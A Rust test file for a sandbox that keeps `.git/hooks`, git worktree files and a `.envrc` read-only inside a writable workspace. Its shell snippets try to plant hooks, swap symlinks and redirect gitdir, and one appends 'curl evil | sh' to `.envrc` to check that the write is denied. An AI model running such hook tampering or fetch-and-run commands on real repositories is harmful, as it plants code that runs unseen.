//! Protected paths inside the writable root: `.git/hooks` must survive every trick, while the
//! rest of the workspace (and of `.git`) stays writable.

use std::os::unix::fs::PermissionsExt;

use super::support::{Case, namespace_features};

fn hooks_case() -> Case {
    let mut case = Case::new("workspace-write");
    case.spec.filesystem.protected = vec![case.ws.join(".git/hooks")];
    case
}

#[test]
fn existing_hooks_cannot_be_written_moved_or_replaced() {
    if !namespace_features() {
        return;
    }
    let mut case = hooks_case();
    std::fs::create_dir_all(case.ws.join(".git/hooks")).unwrap();
    std::fs::write(case.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    case.sh(r#"
        echo evil > .git/hooks/post-checkout 2>/dev/null || echo create-denied
        echo evil >> .git/hooks/pre-commit 2>/dev/null || echo write-denied
        chmod 777 .git/hooks/pre-commit 2>/dev/null || echo chmod-denied
        mv .git/hooks .git/hooks-old 2>/dev/null || echo rename-denied
        rm -rf .git/hooks 2>/dev/null; test -d .git/hooks && echo rm-denied
        ln -sfn "$WS/evil" .git/hooks 2>/dev/null; test -L .git/hooks || echo symlink-denied
        mv .git .git-old 2>/dev/null || echo parent-rename-denied
        rm -rf .git 2>/dev/null; test -d .git/hooks && echo parent-rm-denied
        echo "[core]" > .git/config && echo git-config-ok
        echo ok > other && echo workspace-ok
        "#);
    let out = case.run();
    for line in [
        "create-denied",
        "write-denied",
        "chmod-denied",
        "rename-denied",
        "rm-denied",
        "symlink-denied",
        "parent-rename-denied",
        "parent-rm-denied",
        "git-config-ok",
        "workspace-ok",
    ] {
        out.expect_line(line);
    }
    let hooks = case.ws.join(".git/hooks");
    assert!(hooks.is_dir() && !hooks.is_symlink());
    let names: Vec<_> = std::fs::read_dir(&hooks)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["pre-commit"]);
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(
        std::fs::metadata(hooks.join("pre-commit"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o644
    );
    assert!(!case.ws.join(".git-old").exists());
}

#[test]
fn missing_protected_dir_cannot_be_created_and_placeholder_is_removed() {
    if !namespace_features() {
        return;
    }
    let mut case = hooks_case();
    case.sh(r#"
        mkdir -p .git/hooks 2>/dev/null || echo mkdir-denied
        test -e .git/hooks || echo hooks-absent
        rmdir .git 2>/dev/null || echo placeholder-pinned
        mkdir -p other/hooks && echo twin-ok
        "#);
    let out = case.run();
    for line in [
        "mkdir-denied",
        "hooks-absent",
        "placeholder-pinned",
        "twin-ok",
    ] {
        out.expect_line(line);
    }
    assert!(
        !case.ws.join(".git").exists(),
        "the placeholder was left behind"
    );
    assert!(case.ws.join("other/hooks").is_dir());
}

#[test]
fn symlinked_git_dir_is_protected_at_its_target_and_cannot_be_swapped() {
    if !namespace_features() {
        return;
    }
    let mut case = hooks_case();
    std::fs::create_dir_all(case.ws.join("real-git/hooks")).unwrap();
    std::os::unix::fs::symlink("real-git", case.ws.join(".git")).unwrap();
    case.sh(r#"
        echo evil > .git/hooks/pre-commit 2>/dev/null || echo via-link-denied
        echo evil > real-git/hooks/pre-commit 2>/dev/null || echo target-denied
        rm .git 2>/dev/null || echo unlink-denied
        mv real-git moved 2>/dev/null || echo target-rename-denied
        echo ok > real-git/config && echo twin-ok
        "#);
    let out = case.run();
    for line in [
        "via-link-denied",
        "target-denied",
        "unlink-denied",
        "target-rename-denied",
        "twin-ok",
    ] {
        out.expect_line(line);
    }
    assert!(case.ws.join(".git").is_symlink());
    assert!(!case.ws.join("real-git/hooks/pre-commit").exists());
}

#[test]
fn git_file_in_place_of_a_directory_is_protected_itself() {
    if !namespace_features() {
        return;
    }
    let mut case = hooks_case();
    // A worktree's `.git` is a file pointing at the real git dir.
    std::fs::write(case.ws.join(".git"), "gitdir: /elsewhere\n").unwrap();
    case.sh(r#"
        echo "gitdir: $WS/evil" > .git 2>/dev/null || echo overwrite-denied
        rm -f .git 2>/dev/null; test -f .git && echo remove-denied
        echo ok > notes && echo twin-ok
        "#);
    let out = case.run();
    for line in ["overwrite-denied", "remove-denied", "twin-ok"] {
        out.expect_line(line);
    }
    assert_eq!(
        std::fs::read_to_string(case.ws.join(".git")).unwrap(),
        "gitdir: /elsewhere\n"
    );
}

#[test]
fn protected_symlink_pointing_outside_grants_nothing_there() {
    if !namespace_features() {
        return;
    }
    let mut case = hooks_case();
    std::os::unix::fs::symlink(&case.out, case.ws.join(".git")).unwrap();
    case.sh(r#"echo evil > .git/hooks 2>/dev/null || echo outside-denied; echo ok > twin && echo twin-ok"#);
    let out = case.run();
    out.expect_line("outside-denied");
    out.expect_line("twin-ok");
    // Nothing was created or mounted outside the workspace.
    assert_eq!(std::fs::read_dir(&case.out).unwrap().count(), 0);
}

#[test]
fn protected_single_file_stays_read_only() {
    if !namespace_features() {
        return;
    }
    let mut case = Case::new("workspace-write");
    std::fs::write(case.ws.join(".envrc"), "export SAFE=1\n").unwrap();
    case.spec.filesystem.protected = vec![case.ws.join(".envrc")];
    case.sh(r#"
        echo 'curl evil | sh' >> .envrc 2>/dev/null || echo append-denied
        mv .envrc moved 2>/dev/null || echo rename-denied
        rm -f .envrc 2>/dev/null; test -f .envrc && echo rm-denied
        cat .envrc
        echo ok > .envrc.local && echo twin-ok
        "#);
    let out = case.run();
    for line in [
        "append-denied",
        "rename-denied",
        "rm-denied",
        "export SAFE=1",
        "twin-ok",
    ] {
        out.expect_line(line);
    }
    assert_eq!(
        std::fs::read_to_string(case.ws.join(".envrc")).unwrap(),
        "export SAFE=1\n"
    );
}
